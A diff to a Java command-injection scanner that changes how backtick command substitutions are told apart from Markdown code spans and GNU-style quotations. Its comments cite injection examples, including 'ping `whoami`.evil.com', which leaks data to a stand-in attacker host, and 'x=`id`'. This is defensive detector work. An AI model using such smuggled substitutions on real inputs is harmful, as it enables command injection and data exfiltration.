@@ -1109,8 +1109,10 @@ final class CmdiScanner {
   /**
    * An opening backtick starts a substitution, except a Markdown code span: one that opens after a blank, an
    * opening bracket or quote (or at the start) and closes before a blank, punctuation or the end, with text
-   * around it ({@code run `npm test` first}, {@code (see `ls`)}). What a code span holds is judged as documentation. A span glued to text
-   * ({@code ping `whoami`.evil.com}, {@code x=`id`}) or making up the whole value is a substitution.
+   * around it ({@code run `npm test` first}, {@code (see `ls`)}). What a code span holds is judged as
+   * documentation. A span glued to text ({@code ping `whoami`.evil.com}, {@code x=`id`}) or making up the whole
+   * value is a substitution. A word quoted the GNU and TeX way ({@code `awk', a program}), with no backtick after
+   * it to close a substitution, is neither: a shell runs no substitution that is never closed.
    */
   private void backtick(int i) {
     inBacktick = !inBacktick;
@@ -1127,10 +1129,22 @@ final class CmdiScanner {
       }
     }
     int close = closingBacktick(i);
+    if (close == n && gnuQuotation(i)) {
+      return;
+    }
     boolean opensSpan = atStart || isSpace(s.charAt(before))
         || "([\"'".indexOf(s.charAt(before)) >= 0 && !(before > 0 && s.charAt(before - 1) == '$');
     boolean codeSpan = opensSpan && close < n && closesSpan(close + 1) && !(atStart && restIsBlank(close + 1));
     command(i + 1, codeSpan ? DOC : SEP, CmdiDetector.SUBSTITUTION);
+  }
+
+  /** Whether a word and an apostrophe follow the backtick at {@code i}: {@code `awk'}, {@code `make install'}. */
+  private boolean gnuQuotation(int i) {
+    int k = i + 1;
+    while (k < n && k - i <= CmdiShell.MAX_WORD && (CmdiShell.isWordChar(s.charAt(k)) || s.charAt(k) == ' ')) {
+      k++;
+    }
+    return k > i + 1 && k < n && s.charAt(k) == '\'' && CmdiShell.isWordChar(s.charAt(k - 1));
   }
 
   private int closingBacktick(int i) {
